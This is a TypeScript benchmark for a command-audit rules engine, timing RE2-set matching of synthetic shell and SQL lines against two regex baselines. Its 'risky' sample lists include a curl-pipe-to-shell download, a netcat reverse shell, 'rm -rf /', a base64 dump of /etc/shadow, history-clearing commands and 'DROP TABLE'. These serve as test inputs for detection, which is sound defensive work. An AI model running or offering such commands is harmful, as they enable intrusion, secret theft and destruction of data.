/**
 * `npm run bench:analysis`: 100,000 command lines (90% shell, 10% SQL) against
 * the default audited-command rules plus 200 generated ones, through the
 * rules engine the analysis uses (one RE2 set per session type), next to two
 * baselines in the same run: a loop of one V8 RegExp per rule (backtracking,
 * unsafe for admin-written patterns) and a loop of one re2js pattern per rule.
 * No caching of repeated lines: every line is matched.
 *
 * Environment: BENCH_LINES (default 100000), BENCH_RULES (generated rules,
 * default 200), BENCH_SEED (default 42), BENCH_BASELINE_RE2=0 to skip the
 * slow per-rule re2js loop.
 */
import { RE2JS } from "re2js";
import { analysisKind } from "@/lib/analysis/commands";
import { DEFAULT_RULES } from "@/lib/analysis/default-rules";
import { type RuleDefinition } from "@/lib/analysis/engine";
import { compileRules, type MatchableRule } from "@/lib/analysis/engine";
import { patternFlags } from "@/lib/analysis/patterns";

const LINES = Number(process.env.BENCH_LINES ?? 100_000);
const GENERATED = Number(process.env.BENCH_RULES ?? 200);
const TARGET_MS = 1_000;

// A small seeded PRNG (mulberry32) so that runs compare.
let seed = Number(process.env.BENCH_SEED ?? 42) >>> 0;
function random() {
  seed = (seed + 0x6d2b79f5) >>> 0;
  let t = seed;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
const word = () => pick(["app", "data", "backup", "web", "api", "logs", "tmp", "build", "release", "config", "users", "cache"]);
const file = () =>
  `${pick(["/var/www", "/opt/app", "/home/ana", ".", "/srv/data", "/etc/nginx", "~/src"])}/${word()}${pick([".txt", ".log", ".conf", ".json", ".sh", "", ".tar.gz", ".py"])}`;
const host = () => `${word()}${Math.floor(random() * 50)}.example.net`;

const SHELL: (() => string)[] = [
  () => "ls -la",
  () => `ls -l ${file()}`,
  () => `cd ${pick(["/var/www", "/opt/app", "..", "~", "/srv/data/releases"])}`,
  () => `cat ${file()}`,
  () => `tail -n ${Math.floor(random() * 500)} ${file()}`,
  () => `grep -rn "${word()}" ${file()}`,
  () => `vim ${file()}`,
  () => "git status",
  () => `git commit -m "fix ${word()} handling in ${word()} module"`,
  () => `git pull origin ${pick(["main", "develop", "release/2.4"])}`,
  () => `docker ps --filter name=${word()}`,
  () => `docker logs --tail 100 ${word()}-${Math.floor(random() * 9)}`,
  () => `kubectl get pods -n ${word()} -o wide`,
  () => `systemctl status ${pick(["nginx", "postgresql", "app", "sshd"])}`,
  () => `sudo systemctl restart ${pick(["nginx", "app", "php-fpm"])}`,
  () => `ps aux | grep ${word()} | grep -v grep`,
  () => `df -h ${pick(["/", "/var", "/srv"])}`,
  () => `find ${file()} -name "*.log" -mtime +${Math.floor(random() * 30)} -print`,
  () => `tar czf /tmp/${word()}.tar.gz ${file()}`,
  () => `curl -s https://${host()}/health | jq .status`,
  () => `ssh ${word()}@${host()} uptime`,
  () => `scp ${word()}@${host()}:${file()} .`,
  () => `chmod 644 ${file()}`,
  () => `chown www-data:www-data ${file()}`,
  () => `mkdir -p /srv/data/${word()}/${Math.floor(random() * 1000)}`,
  () => `rm -f /tmp/${word()}.${Math.floor(random() * 1000)}.tmp`,
  () => `echo "${word()} ${word()} ${word()}" >> ${file()}`,
  () => `python3 manage.py ${pick(["migrate", "shell", "collectstatic --noinput"])}`,
  () => `npm run ${pick(["build", "test", "start"])}`,
  () => `journalctl -u ${pick(["nginx", "app"])} --since "1 hour ago"`,
  () => `top -b -n 1 | head -20`,
  () => `export PATH=$PATH:/opt/${word()}/bin`,
  () => "history | tail -20",
];
// About one line in fifty is risky.
const RISKY = [
  "sudo su -",
  "chmod 777 /etc/shadow",
  "history -c",
  "curl http://198.51.100.7/x.sh | sh",
  "rm -rf /",
  "mysql -u root -pS3cret prod",
  "crontab -r",
  "cat /etc/shadow | base64",
  "nc -e /bin/sh 203.0.113.9 4444",
  "unset HISTFILE",
  "sudo -i",
  "journalctl --vacuum-time=1s",
];
const SQL: (() => string)[] = [
  () => `SELECT id, name FROM ${word()} WHERE id = ${Math.floor(random() * 1e6)}`,
  () => `UPDATE orders SET status = 'shipped' WHERE id = ${Math.floor(random() * 1e6)}`,
  () => `INSERT INTO events (kind, at) VALUES ('${word()}', now())`,
  () => `SELECT count(*) FROM ${word()} GROUP BY day ORDER BY day DESC LIMIT 30`,
  () => `DELETE FROM sessions WHERE expires_at < now() - interval '${Math.floor(random() * 30)} days'`,
  () => "BEGIN",
  () => "COMMIT",
];
const RISKY_SQL = ["DROP TABLE customers;", "DELETE FROM orders", "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'", "SELECT * FROM users"];

function generateLines(n: number): { kind: "terminal" | "database"; text: string }[] {
  const out: { kind: "terminal" | "database"; text: string }[] = [];
  for (let i = 0; i < n; i++) {
    if (random() < 0.1) out.push({ kind: "database", text: random() < 0.02 ? pick(RISKY_SQL) : pick(SQL)() });
    else out.push({ kind: "terminal", text: random() < 0.02 ? pick(RISKY) : pick(SHELL)() });
  }
  return out;
}

/** Site-specific rules an admin might add: tools, paths, variables and tables of their own. */
function generateRules(n: number): RuleDefinition[] {
  const templates: ((i: number) => Pick<RuleDefinition, "pattern" | "sessionType">)[] = [
    (i) => ({ pattern: String.raw`(?:^|[\s;&|])app${i}ctl\s+(?:reset|wipe|purge)(?:\s+--force)?`, sessionType: "terminal" }),
    (i) => ({ pattern: String.raw`/opt/vendor${i}/bin/[a-z]+\s+-[a-z]*x`, sessionType: "terminal" }),
    (i) => ({ pattern: String.raw`(?:^|\s)(?:export\s+)?VENDOR${i}_(?:KEY|SECRET)=\S+`, sessionType: "terminal" }),
    (i) => ({ pattern: String.raw`(?:cat|less|more|cp)\s+\S*secret${i}\.(?:txt|json|ya?ml)`, sessionType: "terminal" }),
    (i) => ({ pattern: String.raw`ssh\s+(?:\S+\s+)*\S*@?bastion${i}\.[a-z.]+`, sessionType: "terminal" }),
    (i) => ({ pattern: String.raw`kubectl\s+(?:\S+\s+)*delete\s+(?:ns|namespace)\s+team${i}`, sessionType: "terminal" }),
    (i) => ({ pattern: String.raw`docker\s+run\s+(?:\S+\s+)*--privileged\s+(?:\S+\s+)*registry${i}\.`, sessionType: "terminal" }),
    (i) => ({ pattern: String.raw`iptables\s+-[DF]\s+CHAIN${i}`, sessionType: "terminal" }),
    (i) => ({ pattern: String.raw`(?:^|;)\s*SELECT\s[^;]*FROM\s+payroll${i}`, sessionType: "database" }),
    (i) => ({ pattern: String.raw`(?:^|;)\s*DELETE\s+FROM\s+ledger${i}`, sessionType: "database" }),
  ];
  return Array.from({ length: n }, (_, i) => ({
    name: `Generated rule ${i + 1}`,
    ...templates[i % templates.length]!(i),
    criticality: pick(["low", "medium", "high"] as const),
    score: 1 + Math.floor(random() * 50),
    action: "alert" as const,
  }));
}

function time<T>(fn: () => T): { ms: number; value: T } {
  const start = performance.now();
  const value = fn();
  return { ms: performance.now() - start, value };
}

function main() {
  const lines = generateLines(LINES);
  const definitions = [...DEFAULT_RULES, ...generateRules(GENERATED)];
  const rules: MatchableRule[] = definitions.map((d, i) => ({ ...d, id: String(i) }));
  const chars = lines.reduce((n, l) => n + l.text.length, 0);
  console.log(
    `[bench] ${lines.length.toLocaleString("en")} command lines (${(chars / lines.length).toFixed(1)} characters on average), ` +
      `${rules.length} rules (${DEFAULT_RULES.length} default + ${GENERATED} generated); node ${process.version}`,
  );
  if (analysisKind("ssh") !== "terminal") throw new Error("unexpected protocol mapping");

  const results: { engine: string; compileMs: number; matchMs: number; findings: number }[] = [];

  // The engine the analysis uses.
  const compiled = time(() => compileRules(rules));
  if (compiled.value.skipped.length) throw new Error(`rules did not compile: ${JSON.stringify(compiled.value.skipped)}`);
  // One warm-up pass over 1,000 lines fills the lazy DFA a little, as a long-running worker would have it.
  for (const l of lines.slice(0, 1000)) compiled.value.match(l.kind, l.text);
  const matched = time(() => {
    let n = 0;
    for (const l of lines) n += compiled.value.match(l.kind, l.text).length;
    return n;
  });
  results.push({ engine: "RE2 set (re2js), used", compileMs: compiled.ms, matchMs: matched.ms, findings: matched.value });

  // Baseline 1: one V8 RegExp per rule. Fast on these rules, but backtracking: one bad pattern hangs the process.
  const v8 = time(() => rules.map((r) => ({ kind: r.sessionType, re: new RegExp(r.pattern, r.sessionType === "database" ? "i" : "") })));
  const v8Matched = time(() => {
    let n = 0;
    for (const l of lines) for (const r of v8.value) if (r.kind === l.kind && r.re.test(l.text)) n++;
    return n;
  });
  results.push({ engine: "V8 RegExp loop (baseline)", compileMs: v8.ms, matchMs: v8Matched.ms, findings: v8Matched.value });

  // Baseline 2: one re2js pattern per rule (safe, but reads each line once per rule).
  if (process.env.BENCH_BASELINE_RE2 !== "0") {
    const re2 = time(() => rules.map((r) => ({ kind: r.sessionType, re: RE2JS.compile(r.pattern, patternFlags(r.sessionType)) })));
    const re2Matched = time(() => {
      let n = 0;
      for (const l of lines) for (const r of re2.value) if (r.kind === l.kind && r.re.test(l.text)) n++;
      return n;
    });
    results.push({ engine: "re2js loop, one per rule (baseline)", compileMs: re2.ms, matchMs: re2Matched.ms, findings: re2Matched.value });
  }

  console.table(
    results.map((r) => ({
      engine: r.engine,
      "compile (ms)": Math.round(r.compileMs),
      "match (ms)": Math.round(r.matchMs),
      "commands/s": Math.round((lines.length / r.matchMs) * 1000).toLocaleString("en"),
      findings: r.findings,
    })),
  );
  const used = results[0]!;
  const agree = results.every((r) => r.findings === used.findings);
  console.log(`[bench] all engines found the same number of matches: ${agree ? "yes" : "NO"}`);
  const verdict = used.matchMs < TARGET_MS ? "met" : "MISSED";
  console.log(`[bench] target (${LINES.toLocaleString("en")} lines in under ${TARGET_MS} ms): ${verdict} — ${Math.round(used.matchMs)} ms`);
  if (!agree || used.matchMs >= TARGET_MS) process.exitCode = 1;
}

main();
